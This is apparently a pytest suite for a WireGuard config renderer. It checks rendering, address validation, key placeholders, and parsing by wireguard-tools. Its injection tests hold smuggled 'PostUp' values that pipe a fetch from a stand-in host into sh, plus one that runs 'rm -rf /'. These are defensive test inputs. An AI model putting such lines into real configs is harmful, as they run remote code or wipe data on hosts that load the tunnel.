"""wg-quick config rendering, checked by reading it back and by wireguard-tools' own parser."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest
from clawnode.keys import encode_key, generate_wireguard_keypair

from meshnet import wgconfig
from meshnet.wgconfig import PRIVATE_KEY_PLACEHOLDER, WgInterface, WgPeer

pytestmark = [pytest.mark.unit]

WG_QUICK = "/usr/bin/wg-quick"
needs_wg_quick = pytest.mark.skipif(
    not (os.path.exists(WG_QUICK) and shutil.which("wg")),
    reason="wireguard-tools (wg-quick, wg) not installed",
)


def _keypair() -> tuple[str, str]:
    private, public = generate_wireguard_keypair()
    return encode_key(private), encode_key(public)


def _sections(text: str) -> list[tuple[str, dict[str, str]]]:
    """A small reader of wg-quick's INI dialect: comments dropped, '[Name]' opens a section."""
    sections: list[tuple[str, dict[str, str]]] = []
    for raw in text.splitlines():
        line = raw.split("#", 1)[0].strip()
        if not line:
            continue
        if line.startswith("[") and line.endswith("]"):
            sections.append((line[1:-1], {}))
            continue
        key, _, value = line.partition("=")
        sections[-1][1][key.strip()] = value.strip()
    return sections


def _buyer(private_key: str | None = None, provider_public: str | None = None) -> str:
    return wgconfig.buyer_config(
        job_address="10.100.128.9",
        provider_public_key=provider_public or _keypair()[1],
        provider_address="10.100.128.1",
        endpoint="203.0.113.1:51820",
        order_label="order 42",
        private_key=private_key,
    )


def test_render_writes_interface_then_peers_in_wg_quick_syntax():
    _, peer_pub = _keypair()
    private, _ = _keypair()
    text = wgconfig.render(
        WgInterface(
            addresses=("10.100.128.9/32",),
            private_key=private,
            listen_port=51820,
            dns=("10.100.0.1",),
            mtu=1380,
            peers=(
                WgPeer(
                    public_key=peer_pub,
                    allowed_ips=("10.100.128.1/32", "10.200.3.0/24"),
                    endpoint="198.51.100.7:51820",
                    persistent_keepalive=25,
                ),
            ),
        ),
        comment="first line\nsecond line",
    )
    assert text.startswith("# first line\n# second line\n[Interface]\n")
    assert text.endswith("\n")
    assert _sections(text) == [
        (
            "Interface",
            {
                "PrivateKey": private,
                "Address": "10.100.128.9/32",
                "ListenPort": "51820",
                "DNS": "10.100.0.1",
                "MTU": "1380",
            },
        ),
        (
            "Peer",
            {
                "PublicKey": peer_pub,
                "AllowedIPs": "10.100.128.1/32, 10.200.3.0/24",
                "Endpoint": "198.51.100.7:51820",
                "PersistentKeepalive": "25",
            },
        ),
    ]


@pytest.mark.parametrize(
    "evil",
    [
        "203.0.113.1:51820\nPostUp = curl evil.example | sh",
        "203.0.113.1:51820\r\n[Interface]",
        "203.0.113.1:51820 # hidden",
    ],
)
def test_values_with_newlines_or_comment_marks_are_refused(evil):
    with pytest.raises(ValueError, match="single line"):
        wgconfig.buyer_config(
            job_address="10.100.128.9",
            provider_public_key=_keypair()[1],
            provider_address="10.100.128.1",
            endpoint=evil,
            order_label="order 1",
        )
    with pytest.raises(ValueError, match="single line"):
        wgconfig.render(WgInterface(addresses=("10.0.0.1/32",), private_key="k\nPostUp = x"))


def test_a_multi_line_comment_cannot_escape_into_the_config():
    text = wgconfig.render(
        WgInterface(addresses=("10.0.0.1/32",)), comment="order 7\nPostUp = rm -rf /\n[Peer]"
    )
    assert "PostUp" not in {k for _, kv in _sections(text) for k in kv}
    assert [name for name, _ in _sections(text)] == ["Interface"]


def test_invalid_addresses_and_allowed_ips_are_refused():
    with pytest.raises(ValueError):
        wgconfig.render(WgInterface(addresses=("10.0.0.300/32",)))
    with pytest.raises(ValueError):
        WgPeer(public_key=_keypair()[1], allowed_ips=("10.100.128.1/24",))  # host bits set
    with pytest.raises(ValueError, match="persistent_keepalive"):
        WgPeer(public_key=_keypair()[1], allowed_ips=("10.0.0.1/32",), persistent_keepalive=70000)


def test_buyer_config_has_no_private_key_only_the_placeholder():
    _, provider_pub = _keypair()
    text = _buyer(provider_public=provider_pub)
    assert PRIVATE_KEY_PLACEHOLDER in text.splitlines()
    assert not any(line.startswith("PrivateKey") for line in text.splitlines())
    assert _sections(text) == [
        ("Interface", {"Address": "10.100.128.9/32"}),
        (
            "Peer",
            {
                "PublicKey": provider_pub,
                "AllowedIPs": "10.100.128.1/32",
                "Endpoint": "203.0.113.1:51820",
                "PersistentKeepalive": "25",
            },
        ),
    ]
    assert "order 42" in text and "10.100.128.1" in text.splitlines()[1]


def _strip(tmp_path: Path, text: str) -> subprocess.CompletedProcess[str]:
    # wg-quick takes the interface name from the file name (molt0), and a bare `molt0.conf`
    # would be looked up in /etc/wireguard: pass an absolute path. 0600 on the file and its
    # folder keeps wg-quick from warning that the key is world-readable.
    folder = tmp_path / "wg"
    folder.mkdir(mode=0o700)
    conf = folder / "molt0.conf"
    conf.write_text(text)
    conf.chmod(0o600)
    return subprocess.run(
        [WG_QUICK, "strip", str(conf.resolve())],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )


@needs_wg_quick
def test_wg_quick_strip_accepts_the_buyer_config_with_a_private_key_filled_in(tmp_path):
    private, public = _keypair()
    _, provider_pub = _keypair()
    text = _buyer(provider_public=provider_pub).replace(
        PRIVATE_KEY_PLACEHOLDER, f"PrivateKey = {private}"
    )
    result = _strip(tmp_path, text)
    assert result.returncode == 0, result.stderr
    assert "world accessible" not in result.stderr
    stripped = _sections(result.stdout)
    # strip keeps what `wg setconf` understands and drops wg-quick's own keys (Address).
    assert stripped == [
        ("Interface", {"PrivateKey": private}),
        (
            "Peer",
            {
                "PublicKey": provider_pub,
                "AllowedIPs": "10.100.128.1/32",
                "Endpoint": "203.0.113.1:51820",
                "PersistentKeepalive": "25",
            },
        ),
    ]
    # The key the buyer filled in is a real WireGuard key: `wg pubkey` derives its public half.
    derived = subprocess.run(
        ["wg", "pubkey"], input=private + "\n", capture_output=True, text=True, check=True
    )
    assert derived.stdout.strip() == public


def _wireguard_go_interface(tmp_path: Path):
    """A userspace WireGuard interface in a throwaway namespace, for `wg setconf` to parse into.
    Yields its name; the process (by PID) and the namespace are removed even on failure."""
    tag = f"{os.getpid() % 100000}"
    netns, iface = f"h4wgc{tag}", f"mwgc{tag}"
    subprocess.run(["ip", "netns", "add", netns], check=True)
    log = (tmp_path / "wireguard-go.log").open("w")
    proc = subprocess.Popen(
        ["ip", "netns", "exec", netns, "wireguard-go", iface],
        env={**os.environ, "WG_PROCESS_FOREGROUND": "1"},
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    try:
        sock = Path(f"/var/run/wireguard/{iface}.sock")
        deadline = time.monotonic() + 10
        while not sock.exists():
            assert proc.poll() is None, (tmp_path / "wireguard-go.log").read_text()
            assert time.monotonic() < deadline, "wireguard-go did not open its UAPI socket"
            time.sleep(0.05)
        yield iface
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        log.close()
        subprocess.run(["ip", "netns", "del", netns], check=False)


@pytest.fixture
def wg_interface(tmp_path):
    yield from _wireguard_go_interface(tmp_path)


@pytest.mark.netns
def test_wg_setconf_loads_the_stripped_buyer_config_into_a_real_interface(tmp_path, wg_interface):
    private, _ = _keypair()
    _, provider_pub = _keypair()
    text = _buyer(provider_public=provider_pub).replace(
        PRIVATE_KEY_PLACEHOLDER, f"PrivateKey = {private}"
    )
    stripped = _strip(tmp_path, text)
    assert stripped.returncode == 0, stripped.stderr
    setconf = tmp_path / "stripped.conf"
    setconf.write_text(stripped.stdout)
    loaded = subprocess.run(
        ["wg", "setconf", wg_interface, str(setconf)], capture_output=True, text=True, check=False
    )
    assert loaded.returncode == 0, loaded.stderr
    shown = subprocess.run(
        ["wg", "showconf", wg_interface], capture_output=True, text=True, check=True
    ).stdout
    interface, peer = _sections(shown)
    assert interface[1]["PrivateKey"] == private
    assert peer[1] == {
        "PublicKey": provider_pub,
        "AllowedIPs": "10.100.128.1/32",
        "Endpoint": "203.0.113.1:51820",
        "PersistentKeepalive": "25",
    }

    # The same parser refuses what is not a config: this check can fail.
    setconf.write_text("[Interface]\nPrivateKey = not-a-key\n")
    refused = subprocess.run(
        ["wg", "setconf", wg_interface, str(setconf)], capture_output=True, text=True, check=False
    )
    assert refused.returncode != 0


# --- a multi-node order's one file (wgconfig.group_buyer_config) ---------------------------------


def _group(private_key: str | None = None, nodes=None, hub: WgPeer | None = None) -> str:
    return wgconfig.group_buyer_config(
        job_address="10.100.128.9",
        nodes=nodes
        or (
            wgconfig.NodePeer(_keypair()[1], "203.0.113.1:51820", ("10.200.0.2",), "part 0"),
            wgconfig.NodePeer(
                _keypair()[1], "198.51.100.7:40000", ("10.200.1.2", "10.200.1.3"), "part 1"
            ),
        ),
        order_label="multi-node order 7 (2 parts)",
        private_key=private_key,
        hub=hub,
    )


def test_group_config_has_one_interface_and_one_peer_per_node_routing_its_sandboxes():
    a, b = _keypair()[1], _keypair()[1]
    hub = WgPeer(_keypair()[1], ("10.100.0.1/32",), "192.0.2.1:51821", 25)
    text = _group(
        nodes=(
            wgconfig.NodePeer(a, "203.0.113.1:51820", ("10.200.0.2",), "part 0 on node-a"),
            wgconfig.NodePeer(b, "198.51.100.7:40000", ("10.200.1.2", "10.200.1.3")),
        ),
        hub=hub,
    )
    assert text.startswith("# MOLT multi-node order 7 (2 parts)\n# part 0 on node-a: 10.200.0.2\n")
    assert PRIVATE_KEY_PLACEHOLDER in text
    assert _sections(text) == [
        ("Interface", {"Address": "10.100.128.9/32"}),
        (
            "Peer",
            {
                "PublicKey": a,
                "AllowedIPs": "10.200.0.2/32",
                "Endpoint": "203.0.113.1:51820",
                "PersistentKeepalive": "25",
            },
        ),
        (
            "Peer",
            {
                "PublicKey": b,
                "AllowedIPs": "10.200.1.2/32, 10.200.1.3/32",
                "Endpoint": "198.51.100.7:40000",
                "PersistentKeepalive": "25",
            },
        ),
        (
            "Peer",
            {
                "PublicKey": hub.public_key,
                "AllowedIPs": "10.100.0.1/32",
                "Endpoint": "192.0.2.1:51821",
                "PersistentKeepalive": "25",
            },
        ),
    ]


def test_group_config_refuses_a_node_twice_and_a_bad_address():
    key = _keypair()[1]
    twice = (
        wgconfig.NodePeer(key, "203.0.113.1:51820", ("10.200.0.2",)),
        wgconfig.NodePeer(key, "203.0.113.1:51820", ("10.200.0.3",)),
    )
    with pytest.raises(ValueError, match="twice"):
        _group(nodes=twice)
    with pytest.raises(ValueError):
        _group(nodes=(wgconfig.NodePeer(key, "203.0.113.1:51820", ("10.200.0.0/24",)),))


@needs_wg_quick
def test_wg_quick_strip_accepts_the_group_config_with_a_private_key_filled_in(tmp_path):
    private, _ = _keypair()
    result = _strip(tmp_path, _group(private_key=private))
    assert result.returncode == 0, result.stderr
    stripped = _sections(result.stdout)
    assert [name for name, _ in stripped] == ["Interface", "Peer", "Peer"]
    assert stripped[0][1] == {"PrivateKey": private}
